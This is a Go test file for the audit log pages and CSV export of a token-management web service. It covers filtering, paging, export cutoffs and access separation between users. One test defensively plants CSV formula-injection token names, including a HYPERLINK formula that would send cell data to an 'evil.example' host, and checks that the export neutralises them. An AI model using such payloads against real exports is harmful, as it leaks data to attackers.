package web_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/leastkey/leastkey"
	"github.com/leastkey/leastkey/internal/control"
	"github.com/leastkey/leastkey/internal/nodetest"
	"github.com/leastkey/leastkey/internal/web"
)

// logRows are the rows of a page of the log, each as its words.
func logRows(t *testing.T, a nodetest.Answer) []string {
	t.Helper()
	var rows []string
	for n := range written(t, a).Descendants() {
		if n.Data != "tr" || n.Parent.Data != "tbody" {
			continue
		}
		var words []string
		for d := range n.Descendants() {
			if d.Type == html.TextNode {
				words = append(words, strings.Fields(d.Data)...)
			}
		}
		rows = append(rows, strings.Join(words, " "))
	}
	return rows
}

// exported is a CSV file as rows of cells by column.
func exported(t *testing.T, a nodetest.Answer) []map[string]string {
	t.Helper()
	want(t, a, http.StatusOK)
	if is := a.Header.Get("Content-Type") + "; " + a.Header.Get("Content-Disposition"); is != `text/csv; charset=utf-8; attachment; filename="audit.csv"` {
		t.Errorf("the file is sent as %s", is)
	}
	cells, err := csv.NewReader(strings.NewReader(string(a.Body))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var rows []map[string]string
	for _, row := range cells[1:] {
		byName := map[string]string{}
		for i, cell := range row {
			byName[cells[0][i]] = cell
		}
		rows = append(rows, byName)
	}
	return rows
}

// must asks the API for something that must succeed.
func must(t *testing.T, n *nodetest.Node, by nodetest.Credential, method, path string, body any) {
	t.Helper()
	n.Must(t, by, method, path, body, nil)
}

func TestAuditPage(t *testing.T) {
	n := nodetest.Start(t, nodetest.Config{})
	ada := n.Ada.ByKey()
	b := n.SignIn(t, n.Ada)
	zone := n.Allow(t, nodetest.On(nodetest.ZoneKey(n.Ada.Zones[0])), "DNS Write")
	minter := n.Mint(t, ada, "minter", n.Allow(t, nodetest.On(nodetest.UserKey(n.Ada.ID)), "API Tokens Write"))
	token := n.Mint(t, ada, "deploy-bot", zone)
	must(t, n, ada, "PUT", "/user/tokens/"+token.ID, nodetest.Object{"name": "deployer", "expires_on": nodetest.Epoch.AddDate(1, 0, 0), "policies": token.Policies})
	b.Post(ownTokens+"/"+token.ID+"/status", url.Values{"status": {"disabled"}})
	b.Post(ownTokens+"/"+token.ID+"/status", url.Values{"status": {"active"}})
	must(t, n, minter.Bearer(), "DELETE", "/user/tokens/"+token.ID, nil)
	must(t, n, ada, "DELETE", "/user/tokens/"+minter.ID, nil)

	rows := logRows(t, b.Get("/profile/audit"))
	slices.Reverse(rows)
	const when = "2030-01-01 00:00 UTC ada@example.com "
	for i, words := range []string{
		"2030-01-01 00:00 UTC The operator made a sign-in link for ada@example.com",
		when + "signed in with a link",
		when + "by Global API Key made the token minter",
		when + "by Global API Key made the token deploy-bot Only this token What changed added: Name: deploy-bot added: Status: active added: May: DNS Write on zone one.example",
		when + "by Global API Key edited the token deployer Only this token What changed removed: Name: deploy-bot added: Name: deployer removed: Now, and without an end added: Until 2031-01-01 00:00 UTC",
		when + "by this session disabled the token deployer Only this token What changed removed: Status: active added: Status: disabled 192.0.2.1",
		when + "by this session enabled the token deployer",
		when + "by token minter deleted the token deployer Only this token What changed removed: Name: deployer",
		when + "by Global API Key deleted the token minter",
	} {
		at := slices.IndexFunc(rows, func(row string) bool { return strings.HasPrefix(row, words) })
		if at < 0 {
			t.Errorf("row %d is not there: %s\n%s", i, words, strings.Join(rows, "\n"))
		}
	}
	if len(rows) != 9 {
		t.Errorf("%d rows:\n%s", len(rows), strings.Join(rows, "\n"))
	}
	only := logRows(t, b.Get("/profile/audit?token="+token.ID))
	if len(only) != 5 || strings.Contains(strings.Join(only, " "), "Only this token") {
		t.Errorf("of the token there are %q", only)
	}
	for _, row := range only {
		if !strings.Contains(row, "deploy") {
			t.Errorf("of the token there is %q", row)
		}
	}
	if none := logRows(t, b.Get("/profile/audit?token="+n.Ben.ID.String())); none != nil {
		t.Errorf("of no token there are %q", none)
	}
	// Another person sees none of it, whatever they ask for.
	bens := n.SignIn(t, n.Ben)
	for _, query := range []string{"", "?token=" + token.ID, "?actor=" + n.Ada.ID.String()} {
		for _, row := range logRows(t, bens.Get("/profile/audit"+query)) {
			if strings.Contains(row, "ada@example.com") || strings.Contains(row, "deploy") {
				t.Errorf("Ben sees %q", row)
			}
		}
	}
}

func TestAuditOfAccount(t *testing.T) {
	n := nodetest.Start(t, nodetest.Config{})
	n.Join(t, n.Ben, n.Ada.Account, "Administrator")
	home := "/account/" + n.Ada.Account.String() + "/audit"
	tokens := "/accounts/" + n.Ada.Account.String() + "/tokens"
	n.MintFor(t, n.Ada.ByKey(), n.Ada.Account, "by Ada")
	n.MintFor(t, n.Ben.ByKey(), n.Ada.Account, "by Ben")
	minter := n.MintFor(t, n.Ada.ByKey(), n.Ada.Account, "minter", n.Allow(t, nodetest.On(nodetest.AccountKey(n.Ada.Account)), "Account API Tokens Write"))
	must(t, n, minter.Bearer(), "POST", tokens, nodetest.Object{"name": "by the account", "policies": []nodetest.Policy{}})
	b := n.SignIn(t, n.Ada)
	all := logRows(t, b.Get(home))
	text := strings.Join(all, "\n")
	for _, words := range []string{
		"The operator made the account Ada's", "ada@example.com by Global API Key made the token by Ada", "ben@example.com by credential ",
		"Ada's by token minter made the token by the account", "The operator added the member ben@example.com What changed added: roles: Administrator added: user: ben@example.com",
	} {
		if !strings.Contains(text, words) {
			t.Errorf("not there: %s\n%s", words, text)
		}
	}
	for _, who := range []string{n.Ben.Email, strings.ToUpper(n.Ben.Email), n.Ben.ID.String()} {
		if rows := logRows(t, b.Get(home+"?actor="+who)); len(rows) != 1 || !strings.Contains(rows[0], "made the token by Ben") {
			t.Errorf("Ben did %q", rows)
		}
	}
	want(t, b.Get(home+"?actor=nobody@example.com"), http.StatusUnprocessableEntity, "No member has this e-mail address.")
	if rows := exported(t, b.Get(home+".csv?actor="+n.Ben.Email)); len(rows) != 1 || rows[0]["actor"] != n.Ben.Email {
		t.Errorf("exported %v", rows)
	}
	a := b.Send(b.Request("GET", home+".csv?actor=nobody", nil))
	if a.Status != http.StatusSeeOther || a.Header.Get("Location") != home+"?actor=nobody" {
		t.Errorf("%d to %q", a.Status, a.Header.Get("Location"))
	}
}

// TestAuditFilter asks for days, and turns pages.
func TestAuditFilter(t *testing.T) {
	n := nodetest.Start(t, nodetest.Config{})
	ada := n.Ada.ByKey()
	for day := range 4 {
		for i := range 20 {
			token := n.Mint(t, ada, "on day "+strconv.Itoa(day)+" "+strconv.Itoa(i))
			must(t, n, ada, "DELETE", "/user/tokens/"+token.ID, nil)
		}
		n.Clock.Advance(24 * time.Hour)
	}
	b := n.SignIn(t, n.Ada)
	all := len(exported(t, b.Get("/profile/audit.csv")))
	if all != 4*20*2+2 {
		t.Fatalf("%d rows in all", all)
	}
	for _, c := range []struct {
		query string
		rows  int
	}{
		{"from=2030-01-03", 2*40 + 2}, {"to=2030-01-01", 40}, {"from=2030-01-02&to=2030-01-02", 40}, {"from=2030-01-02&to=2030-01-03", 80},
		{"from=2031-01-01", 0}, {"to=2029-12-31", 0}, {"before=1", 0}, {"", all},
	} {
		if is := len(exported(t, b.Get("/profile/audit.csv?"+c.query))); is != c.rows {
			t.Errorf("%s exports %d rows, want %d", c.query, is, c.rows)
		}
		seen := map[string]bool{}
		rows := 0
		for at := "/profile/audit?" + c.query; at != ""; {
			a := b.Get(at)
			want(t, a, http.StatusOK)
			for _, row := range logRows(t, a) {
				seen[row], rows = true, rows+1
			}
			at = ""
			if next, ok := lookFor(written(t, a), "rel", "next"); ok {
				at = next.Attr[slices.IndexFunc(next.Attr, func(a html.Attribute) bool { return a.Key == "href" })].Val
			}
		}
		if rows != c.rows || len(seen) != c.rows {
			t.Errorf("%s shows %d rows, of which %d differ, want %d", c.query, rows, len(seen), c.rows)
		}
	}
	for query, words := range map[string]string{
		"from=yesterday": "Write the day as in", "to=2030-02-30": "Write the day as in", "from=2030-01-02&to=2030-01-01": "must not be before the first",
		"token=x": "The id of a token has 32 characters", "before=x": "no such page", "before=0": "no such page", "before=-1": "no such page",
		"before=18446744073709551615": "no such page",
	} {
		want(t, b.Get("/profile/audit?"+query), http.StatusUnprocessableEntity, words)
	}
}

// TestExportIsInert gives tokens names that spreadsheet programs would run.
func TestExportIsInert(t *testing.T) {
	n := nodetest.Start(t, nodetest.Config{})
	eve := n.Person(t, "+cmd@example.com", "Eve's")
	names := []string{`=HYPERLINK("https://evil.example/?"&A1,"x")`, "+1", "-1+1", "@SUM(1+1)", "'=1", `"=1`, "a,=1", "a\u2028=1", "plain"}
	for _, name := range names {
		n.Mint(t, eve.ByKey(), name)
	}
	rows := exported(t, n.SignIn(t, eve).Get("/profile/audit.csv"))
	slices.Reverse(rows)
	for i, row := range rows {
		for column, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("%s begins a formula: %q", column, cell)
			}
		}
		if row["action"] != "token.create" {
			continue
		}
		if row["actor"] != "'+cmd@example.com" {
			t.Errorf("the actor is %q", row["actor"])
		}
		if is := strings.TrimPrefix(row["name"], "'"); is != strings.TrimPrefix(names[i], "'") {
			t.Errorf("the name is %q, want %q", row["name"], names[i])
		}
	}
	if len(rows) != len(names)+2 { // and the sign-in, with its link
		t.Errorf("%d rows", len(rows))
	}
}

// TestExportIsCut asks for more rows than a file has.
func TestExportIsCut(t *testing.T) {
	const over = 7
	n := nodetest.Start(t, nodetest.Config{Store: func(s control.Store) control.Store { return longLog{s, web.MostExported + over} }})
	rows := exported(t, n.SignIn(t, n.Ada).Get("/profile/audit.csv"))
	last := rows[len(rows)-1]
	if len(rows) != web.MostExported+1 || !strings.Contains(last["revision"], "Cut after 10000 rows. For those from revision 7 down") || !strings.Contains(last["revision"], "before=8") {
		t.Errorf("%d rows, the last of which is %v", len(rows), last)
	}
	if before := rows[len(rows)-2]["revision"]; before != strconv.Itoa(over+1) {
		t.Errorf("the last row before it is %s", before)
	}
	rest := exported(t, n.SignIn(t, n.Ada).Get("/profile/audit.csv?before=8"))
	if len(rest) != over || rest[0]["revision"] != "7" {
		t.Errorf("%d rows are left: %v", len(rest), rest)
	}
}

// longLog is a store whose log has many rows, which would take long to make.
type longLog struct {
	control.Store
	rows int
}

func (l longLog) View(ctx context.Context, fn func(control.Reader) error) error {
	return l.Store.View(ctx, func(r control.Reader) error { return fn(longReader{r, l.rows}) })
}

type longReader struct {
	control.Reader
	rows int
}

func (r longReader) AuditRows(f control.AuditFilter) ([]control.Audit, error) {
	if f.Subject != "" {
		return nil, nil
	}
	newest := leastkey.Revision(r.rows)
	if f.Before > 0 {
		newest = min(newest, f.Before-1)
	}
	var rows []control.Audit
	for rev := newest; rev > 0 && len(rows) < f.Limit; rev-- {
		rows = append(rows, control.Audit{Revision: rev, Action: "test", Actor: leastkey.UserOf(f.User), At: nodetest.Epoch})
	}
	return rows, nil
}

// TestEveryActHasWords finds the acts of the control plane in its source.
func TestEveryActHasWords(t *testing.T) {
	files, err := filepath.Glob("../control/*.go")
	if err != nil || len(files) == 0 {
		t.Fatal(err, files)
	}
	acts := regexp.MustCompile(`"((?:token|session|user|account|member|resource)\.[a-z_]+)"`)
	found := 0
	for _, file := range files {
		if strings.HasSuffix(file, "_test.go") {
			continue
		}
		source, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for _, act := range acts.FindAllStringSubmatch(string(source), -1) {
			found++
			if web.ActWords(act[1]) == "" {
				t.Errorf("%s: nothing is said of %s", file, act[1])
			}
		}
	}
	if found < 15 {
		t.Errorf("%d acts were found", found)
	}
}
